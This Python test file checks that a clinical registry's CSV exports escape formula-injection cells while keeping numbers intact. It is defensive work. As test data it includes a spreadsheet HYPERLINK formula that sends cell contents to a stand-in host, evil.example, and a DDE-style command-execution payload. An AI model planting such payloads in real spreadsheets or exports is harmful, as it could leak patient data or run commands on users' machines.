"""CSV formula injection: a text a user typed never reaches a spreadsheet as a formula, in any CSV
the product writes; numbers stay numbers."""

import csv
import datetime
import io
import types
from decimal import Decimal

import pytest

from analysis import dashboard, views
from core.csv_safe import SafeWriter, looks_like_formula, safe_cell
from registry.tests.api_support import client_for
from registry.tests.factories import EncounterFactory, PatientFactory, ProcedureFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C2&D2,"x")'


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        (HYPERLINK, "'" + HYPERLINK),
        ("-12.5 ± 3.0", "'-12.5 ± 3.0"),
        # plain text and plain numbers written as text are left as they are
        ("MRN-1", "MRN-1"),
        ("a=b", "a=b"),
        ("", ""),
        ("-3", "-3"),
        ("-1.5", "-1.5"),
        ("+2", "+2"),
        ("-1e-3", "-1e-3"),
        # numbers are never touched
        (-3, -3),
        (-1.5, -1.5),
        (Decimal("-0.5"), Decimal("-0.5")),
        (None, None),
    ],
)
def test_a_cell_that_could_be_a_formula_gets_a_leading_quote_and_nothing_else_changes(value, expected):
    assert safe_cell(value) == expected


def test_the_writer_quotes_embedded_quotes_and_reads_back_as_the_neutralised_text():
    out = io.StringIO()
    SafeWriter(out).writerow([HYPERLINK, -3, "ok"])

    assert out.getvalue() == '"\'=HYPERLINK(""http://evil.example/?d=""&C2&D2,""x"")",-3,ok\r\n'
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'" + HYPERLINK, "-3", "ok"]]


def test_the_form_warning_and_the_csv_agree_on_what_a_formula_is():
    assert looks_like_formula("=1+2") and looks_like_formula("@x") and looks_like_formula("- x")
    assert not looks_like_formula("-1.5") and not looks_like_formula("x=1") and not looks_like_formula("")


def _rows(response) -> list[dict]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.django_db
def test_the_identified_export_neutralises_free_text_and_keeps_numbers(personas, site_a):
    patient = PatientFactory(
        site=site_a,
        mrn="=1+2",
        birth_date=datetime.date(1950, 1, 1),
        primary_cancer="other",
        primary_cancer_detail=HYPERLINK,
    )
    procedure = ProcedureFactory(patient=patient, date=datetime.date(2023, 3, 1))
    EncounterFactory(procedure=procedure, kind="baseline", date=datetime.date(2023, 2, 26))

    response = client_for(personas["alice"]).get("/api/exports/encounters.csv")

    assert response.status_code == 200
    [row] = _rows(response)
    assert row["mrn"] == "'=1+2"
    assert row["primary_cancer_detail"] == "'" + HYPERLINK
    assert row["birth_date"] == "1950-01-01"
    assert row["days_from_index"] == "-3"  # a number, not text
    assert row["study_id"] == patient.study_id


@pytest.mark.django_db
def test_the_deidentified_export_keeps_negative_days_as_numbers(personas, site_a):
    patient = PatientFactory(site=site_a, mrn="=1+2")
    procedure = ProcedureFactory(patient=patient, date=datetime.date(2023, 3, 1))
    EncounterFactory(procedure=procedure, kind="baseline", date=datetime.date(2023, 2, 26))

    response = client_for(personas["ivy"]).get("/api/exports/encounters-deidentified.csv")

    assert response.status_code == 200
    [row] = _rows(response)
    assert row["encounter_day"] == "-3"
    assert "mrn" not in row


@pytest.mark.django_db
def test_the_dashboard_table_download_neutralises_text_and_keeps_numbers(client, personas, monkeypatch):
    table = dashboard.Table("demographics", "Demographics", ["", "=header"])
    table.csv_header = ["label", "=header", "mean"]
    table.csv_rows = [["=1+2", -1.5, 2], ["@label", "-12.5 ± 3.0", None], ["Patients (n)", 3, 4.25]]
    snapshot = types.SimpleNamespace(computed_at=datetime.datetime(2026, 1, 2, 3, 4), document={})
    monkeypatch.setattr(views, "_snapshot_or_404", lambda site, demo=True: snapshot)
    monkeypatch.setattr(views, "dashboard_tables", lambda document: {"demographics": table})
    client.force_login(personas["ivy"])

    response = client.get("/dashboard/tables/demographics.csv")

    assert response.status_code == 200
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text.removeprefix("\ufeff")))) == [
        ["label", "'=header", "mean"],
        ["'=1+2", "-1.5", "2"],
        ["'@label", "'-12.5 ± 3.0", ""],
        ["Patients (n)", "3", "4.25"],
    ]
